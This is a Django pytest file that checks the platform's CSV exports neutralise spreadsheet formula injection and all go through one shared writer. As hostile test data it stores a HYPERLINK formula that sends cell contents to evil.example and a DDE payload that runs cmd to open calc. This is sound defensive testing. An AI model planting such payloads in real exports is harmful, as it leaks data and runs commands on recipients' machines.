"""Issue 21: one CSV writer for the platform; no CSV it produces carries a cell a
spreadsheet would run as a formula (=, +, -, @, tab, CR at the start of text)."""

import csv
import datetime
import io
import pathlib
import re
from decimal import Decimal, InvalidOperation

import pytest
from django.urls import reverse

from core.actors import SystemActor
from core.csvwriter import FORMULA_PREFIXES
from core.roles import Role
from premiums.services import purchase_report_record
from programs.models import Buyer, Facility, Supplier
from tests.buyer.helpers import make_obligation
from tests.security.test_export import _download as export_download
from tests.security.test_export import _url as export_url

SYSTEM = SystemActor("test-setup")

pytestmark = pytest.mark.django_db

ROOT = pathlib.Path(__file__).resolve().parents[2]
SUPPLIER = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
BUYER = "+SUM(1+1)"
FACILITY = "@cmd|' /C calc'!A0"


def _is_number(text):
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def _assert_no_formula(name, text):
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_PREFIXES) and not _is_number(cell):
                pytest.fail(f"{name}: a cell would run as a formula: {cell!r}")


def _hostile_world(a):
    # Names as hostile parties would register them (set directly: the point is what the
    # writers do with whatever is stored).
    Supplier.objects.filter(pk=a.supplier.pk).update(legal_name=SUPPLIER)
    Buyer.objects.filter(pk=a.buyer.pk).update(name=BUYER)
    Facility.objects.filter(pk=a.facility.pk).update(name=FACILITY)
    for obj in (a.supplier, a.buyer, a.facility):
        obj.refresh_from_db()
    make_obligation(a)  # a zero-tolerance violation: obligations, do-not-source
    purchase_report_record(
        actor=SYSTEM,
        program=a.program,
        buyer=a.buyer,
        supplier=a.supplier,
        period_start=datetime.date(2026, 1, 1),
        period_end=datetime.date(2026, 1, 31),
        volume="1000",
    )


def test_every_csv_the_platform_produces_neutralises_formulas(personas, client_for):
    a = personas.a
    _hostile_world(a)
    anonymous = client_for(None)
    admin = client_for(a.user(Role.ADMIN))
    officer = client_for(a.user(Role.BUYER_OFFICER))
    downloads = {
        "public suppliers.csv": (anonymous, f"/public/{a.slug}/suppliers.csv", SUPPLIER),
        "public buyers.csv": (anonymous, f"/public/{a.slug}/buyers.csv", BUYER),
        "premium reconciliation": (
            admin,
            reverse("premiums:premium_csv", kwargs={"program": a.slug}),
            SUPPLIER,
        ),
        "buyer obligations": (officer, reverse("buyer:obligations_csv"), SUPPLIER),
        "buyer do-not-source": (officer, reverse("buyer:do_not_source_csv"), SUPPLIER),
    }
    for name, (client, url, hostile) in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, (name, response.status_code)
        body = b"".join(response.streaming_content) if response.streaming else response.content
        text = body.decode("utf-8")
        cells = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
        assert "'" + hostile in cells, f"{name}: the hostile name is missing or altered"
        _assert_no_formula(name, text)

    # The program export: every CSV in the archive.
    archive = export_download(admin, export_url(a))
    csv_names = [n for n in archive.namelist() if n.endswith(".csv")]
    assert "programs/supplier.csv" in csv_names
    for name in csv_names:
        _assert_no_formula(name, archive.read(name).decode("utf-8"))


def test_no_csv_is_written_outside_the_one_writer():
    """A new export that used csv.writer directly would skip the neutralising."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith((".venv/", "node_modules/", "tests/", "bench/")):
            continue
        if rel == "core/csvwriter.py":
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(rel)
    assert offenders == []
